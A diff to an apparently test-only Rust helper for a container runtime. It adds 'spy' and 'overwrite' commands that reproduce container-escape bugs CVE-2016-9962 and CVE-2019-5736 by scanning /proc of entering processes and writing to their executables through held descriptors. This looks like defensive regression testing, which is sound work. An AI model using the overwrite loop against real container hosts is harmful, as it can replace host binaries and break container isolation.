@@ -6,7 +6,8 @@ use std::fs;
 pub fn main(words: &[String]) {
     match words[0].as_str() {
         "descriptors" => descriptors(),
-        "write-self" => write_self(&words[1]),
+        "spy" => spy(),
+        "overwrite" => overwrite(),
         "args" => words[1..].iter().for_each(|word| println!("{word}")),
         "environment" => environment(),
         "signals" => signals(),
@@ -30,11 +31,62 @@ fn descriptors() {
     }
 }
 
-/// Tries to write to a program file (CVE-2019-5736).
-fn write_self(path: &str) {
-    match fs::OpenOptions::new().write(true).open(path) {
-        Ok(_) => println!("opened"),
-        Err(error) => println!("refused: {error}"),
+/// Process ids that are not our own.
+fn others() -> Vec<String> {
+    let own = std::process::id().to_string();
+    let names = fs::read_dir("/proc").expect("read /proc").flatten();
+    let names = names.map(|entry| entry.file_name().to_string_lossy().into_owned());
+    names.filter(|name| name.bytes().all(|byte| byte.is_ascii_digit()) && *name != own).collect()
+}
+
+/// Looks at the descriptors and the memory of all that comes into the container, until /stop is there (CVE-2016-9962).
+fn spy() {
+    println!("ready");
+    let mut seen = std::collections::BTreeSet::new();
+    while !std::path::Path::new("/stop").exists() {
+        for pid in others() {
+            for what in ["exe", "cwd", "root"] {
+                if let Ok(target) = fs::read_link(format!("/proc/{pid}/{what}")) {
+                    seen.insert(format!("{what} {}", target.display()));
+                }
+            }
+            for entry in fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten() {
+                if let Ok(target) = fs::read_link(entry.path()) {
+                    seen.insert(format!("fd {}", target.display()));
+                }
+            }
+        }
+    }
+    seen.iter().for_each(|what| println!("{what}"));
+}
+
+/// Keeps hold of each program that enters the container and overwrites it as soon as it is not busy, until /stop is
+/// there (CVE-2019-5736).
+fn overwrite() {
+    use std::os::fd::AsRawFd;
+    println!("ready");
+    let mut held: Vec<fs::File> = Vec::new();
+    let mut stop = false;
+    while !stop {
+        // Once more after the end: by then nothing is busy any more.
+        stop = std::path::Path::new("/stop").exists();
+        for pid in others() {
+            let exe = format!("/proc/{pid}/exe");
+            if let Ok(file) = fs::File::open(&exe)
+                && held.len() < 500
+            {
+                println!("holding {}", fs::read_link(exe).unwrap_or_default().display());
+                held.push(file);
+            }
+        }
+        for file in &held {
+            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
+            let Ok(mut writable) = fs::OpenOptions::new().write(true).open(&path) else { continue };
+            if std::io::Write::write_all(&mut writable, b"overwritten").is_ok() {
+                println!("overwritten {}", fs::read_link(&path).unwrap_or_default().display());
+                stop = true;
+            }
+        }
     }
 }
 
